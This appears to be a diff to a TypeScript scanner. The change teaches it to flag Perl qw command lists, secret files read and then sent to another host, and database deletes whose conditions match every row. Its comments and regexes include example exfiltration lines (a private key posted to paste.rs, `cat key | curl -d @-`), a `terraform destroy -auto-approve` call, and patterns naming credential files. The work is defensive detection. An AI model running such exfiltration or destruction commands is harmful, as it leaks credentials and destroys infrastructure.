@@ -241,6 +241,8 @@ export function readCode(text: string, ctx: Ctx): Finding[] {
       .replace(/\bos\.remove\.all\(/g, 'os.RemoveAll(')
       .replace(/\((?:[\w.]+\/)?delete-tree\s+/g, 'fs.rm_rf(');
   }
+  // Perl's quoted word list (system(qw(terraform destroy -auto-approve)), my @cmd = qw(…)) is a list of strings.
+  if (text.includes('qw')) text = text.replace(/\bqw\s*([([{/|])([^)\]}/|\n]*)[)\]}/|]/g, (_m, _o: string, words: string) => `(${words.trim().split(/\s+/).filter(Boolean).map((w) => JSON.stringify(w)).join(', ')})`);
   // Names built from pieces ("rmt" + "ree", 'sys' . 'tem', "rm" .. " -rf"): adjacent string literals joined read as one.
   for (let k = 0; k < 8 && STRING_CONCAT.test(text); k++) text = text.replace(STRING_CONCAT, (_m, q: string, a: string, _q2: string, b: string) => `${q}${a}${b}${q}`);
   // Indirect names: getattr(__import__('shutil'), 'rmtree')(p), getattr(os, "remove")(p), fs['rmSync'](p) read as the call they make.
@@ -729,8 +731,13 @@ function firstArg(expr: string): string {
     }
     if (ch === '"' || ch === "'" || ch === '`') q = ch;
     else if (ch === '(' || ch === '[' || ch === '{') depth++;
-    else if (ch === ')' || ch === ']' || ch === '}') depth--;
-    else if (ch === ',' && depth === 0) {
+    else if (ch === ')' || ch === ']' || ch === '}') {
+      // The call's own closing parenthesis ends its argument list (the next line's literals are no part of the path).
+      if (--depth < 0) {
+        end = i;
+        break;
+      }
+    } else if (ch === ',' && depth === 0) {
       end = i;
       break;
     }
@@ -956,7 +963,7 @@ function pathDeletion(p: string, recursive: boolean, what: string): Finding[] {
 }
 
 /** File reads in many languages: open(p), readFileSync(p), File.read(p), file_get_contents(p), read_text, ReadAllText, Files.readString. */
-const FILE_READ_CALL = /\b(?:open|io\.open|readFileSync|readFile|File\.read|File\.readlines|IO\.read|file_get_contents|file|read_text|read_to_string|ReadAllText|ReadAllLines|readString|readAllBytes|ReadFile|fopen|slurp|Deno\.readTextFile(?:Sync)?|Bun\.file)\s*\(|\bcontentsOfFile:\s*/g;
+const FILE_READ_CALL = /\b(?:open|io\.open|readFileSync|readFile|File\.read|File\.readlines|IO\.read|file_get_contents|file|read_text|read_to_string|ReadAllText(?:Async)?|ReadAllLines(?:Async)?|ReadAllBytes(?:Async)?|readString|readAllBytes|ReadFile|fopen|slurp|Deno\.readTextFile(?:Sync)?|Bun\.file)\s*\(|\bcontentsOfFile:\s*/g;
 /** Key material and cloud or cluster credentials: printed, they are a live secret in the transcript. */
 const KEY_OR_CLOUD_CRED = /(?:^|[\\/])(?:id_(?:rsa|ed25519|ecdsa|dsa)|[\w.-]+\.(?:pem|key|p12|pfx|ppk))$|[\\/]\.(?:aws|kube|gnupg|docker)[\\/]|[\\/]\.ssh[\\/]id_|(?:^|[\\/])(?:credentials(?:\.json)?|service[-_]?account[\w-]*\.json|\.vault-token|\.netrc|\.pgpass|\.git-credentials)$/i;
 
@@ -978,13 +985,40 @@ function secretFileReads(code: string): Finding[] {
   }
   for (const p of paths) {
     if (!p || !(pathKind(p) === 'secret' || SECRET_FILE_NAME.test(p))) continue;
+    const sent = boundSecretSent(code);
+    if (sent) {
+      out.push(f(sent.local ? 'dangerous' : 'forbidden', `sends secrets (${snippet(p, 40)}) read into ${sent.name} to ${sent.host}`));
+      break;
+    }
     const printed = PRINT_CALL.test(code) || /\bprint\s*<|\bputs\b|\becho\b/.test(code);
-    if (printed && KEY_OR_CLOUD_CRED.test(p)) out.push(f('dangerous', `prints key material or cloud credentials (${snippet(p, 50)}) into the transcript`));
+    // Printing from code is `cat` of the file (cls-code13, README decisions): reading a secret, dangerous when the input
+    // names production or a live system, as in bash, PowerShell and prose.
+    if (printed && KEY_OR_CLOUD_CRED.test(p)) out.push(readSecret(`prints key material or cloud credentials (${snippet(p, 50)}) into the transcript`, true));
     else out.push(readSecret(`reads a secrets file (${snippet(p, 50)})`, true));
     break;
   }
   return out;
 }
+/**
+ * A secret file read into a name, then that name handed to a request to another host (key = fs.readFileSync(…id_ed25519);
+ * fetch('https://paste.rs', { body: key })): the secret leaves, as `cat key | curl -d @- …` does (cls-code13).
+ */
+function boundSecretSent(code: string): { name: string; host: string; local: boolean } | null {
+  const bind = /(?:^|[\s;({])(?:(?:const|let|var|val|my|final|auto)\s+)?[$@]?([A-Za-z_]\w*)\s*(?::=|=)\s*(?:await\s+|try\s+)?[^=\n;]{0,120}?(?:open|readFileSync|readFile|File\.read|IO\.read|file_get_contents|read_text|read_to_string|ReadAllText|readString|ReadFile|contentsOfFile:)/.exec(code);
+  if (!bind) return null;
+  const name = bind[1] as string;
+  const after = code.slice(bind.index + bind[0].length);
+  const sent = new RegExp(`\\b(?:fetch|axios(?:\\.post|\\.put)?|requests\\.(?:post|put)|httpx\\.(?:post|put)|http\\.(?:post|put|request)|got\\.post|Net::HTTP\\.post(?:_form)?|HTTParty\\.post|PostAsync|PutAsync|urlopen|curl_setopt|Invoke-RestMethod|\\.post|\\.put)\\s*\\(?[^;\\n]*?["'\`](https?:\\/\\/[^"'\`\\s/]+)[^;]*?\\b${name}\\b`).exec(after);
+  // PHP's curl names the URL in curl_init and the body in an option.
+  const send = sent ?? new RegExp(`curl_init\\(\\s*["'](https?:\\/\\/[^"'\\s/]+)[\\s\\S]{0,300}?CURLOPT_POSTFIELDS\\s*,[^)]*\\$${name}\\b`).exec(after);
+  if (!send) return null;
+  const host = (send[1] as string).replace(/^https?:\/\//, '');
+  return { name, host, local: /^(?:localhost|127\.|\[::1\])|\.(?:internal|corp|lan|intra|private)(?::\d+)?$/.test(host) };
+}
+
+/** A where-condition every row meets: Where("1 = 1"), .Where(o => true), filter(lambda _: True). */
+const ALWAYS_TRUE_WHERE = /\b(?:Where|where|filter|Filter)\s*\(\s*(?:["'`]\s*(?:1\s*=\s*1|true|TRUE)\s*["'`]|\(?\s*\w*\s*\)?\s*=>\s*true|lambda\s*\w*\s*:\s*True)\s*\)/;
+
 /** A path object read whole (pathlib, Kotlin/Java Path): the receiver chain names the file. */
 const PATH_OBJECT_READ = /((?:pathlib\.)?Path(?:\.home\(\s*\)|\(\s*["'][^"'\n]*["']\s*\))(?:\s*\/\s*["'][^"'\n]*["']|\s*\.\s*(?:joinpath|expanduser|resolve)\s*\([^()\n]*\))*)\s*\)?\s*\.\s*(?:read_text|read_bytes|open|readText|readBytes)\s*\(/g;
 const SECRET_FILE_NAME = /(?:^|[\\/])(?:\.env(?:\.[\w-]+)?|credentials(?:\.json)?|secrets?\.(?:json|ya?ml)|[\w-]*\.(?:pem|key)|id_(?:rsa|ed25519|ecdsa)|\.netrc|\.pgpass|\.git-credentials|\.vault-token)$/i;
@@ -1543,6 +1577,29 @@ function apiAct(c: Call, recv: string, argStr: string, s: CodeScope): Act | null
   if ((verb === 'send' || verb === 'schedule') && [...nameWords, ...recvWords].some((w) => MASS_MESSAGE.test(w))) {
     verb = 'send';
     mods |= M.MASS;
+  }
+  // GORM's Delete(&Model{}, conds…) deletes rows of the model's table (a gorm.Session is a setting, not session data): a key
+  // argument is one row, a Where a filtered set, AllowGlobalUpdate or an always-true condition every row.
+  const gorm = c.name === 'Delete' ? /^\s*&\s*[A-Z]\w*\s*\{\s*\}\s*(?:,\s*([\s\S]+))?$/.exec(argStr) : null;
+  if (gorm) {
+    verb = 'delete';
+    obj = 'record';
+    const chain = c.rawRecv;
+    if (/AllowGlobalUpdate\s*:\s*true/.test(chain) || ALWAYS_TRUE_WHERE.test(c.rawRecv)) scope = 'all';
+    else if (gorm[1]) scope = /^\s*(?:\[\]|\w+\s*\{|\[)/.test(gorm[1]) ? 'some' : 'one';
+    else scope = /\bWhere\s*\(/.test(c.rawRecv) ? 'some' : 'all';
+  }
+  // A condition every row meets (Where("1 = 1"), Where(o => true), DeleteMany(_ => true)) narrows nothing.
+  if ((verb === 'delete' || verb === 'update') && (ALWAYS_TRUE_WHERE.test(c.rawRecv) || /^\s*\(?\s*\w*\s*\)?\s*=>\s*true\s*$|^\s*lambda\s*\w*\s*:\s*True\s*$/.test(argStr))) scope = 'all';
+  // deleteOne / findOneAndDelete / update_one on a collection act on the one document the filter finds (any driver), never on
+  // the collection itself; findOneAndDelete is a delete, not a find.
+  if (/^(?:deleteOne|delete_one|DeleteOne|updateOne|update_one|UpdateOne|replaceOne|replace_one|ReplaceOne|findOneAnd(?:Delete|Remove|Update|Replace)|find_one_and_(?:delete|update|replace)|FindOneAnd(?:Delete|Update|Replace))(?:Async)?$/.test(c.name)) {
+    if (verb === 'read' || verb === undefined) verb = /delete|remove/i.test(c.name) ? 'delete' : 'update';
+    // (A listing fed to a loop keeps its scope: a model's deleteOne over every listed document is every document.)
+    if (!model && (obj === 'table' || obj === 'database' || obj === undefined || obj === 'unknown')) {
+      obj = 'record';
+      scope = 'one';
+    }
   }
   // deleteMany / update_many on a collection acts on the documents its filter matches, not on the collection itself.
   if (!model && (obj === 'table' || obj === 'record') && /(?:many|Many|_many)$/.test(c.name) && (verb === 'delete' || verb === 'update' || verb === 'empty')) {
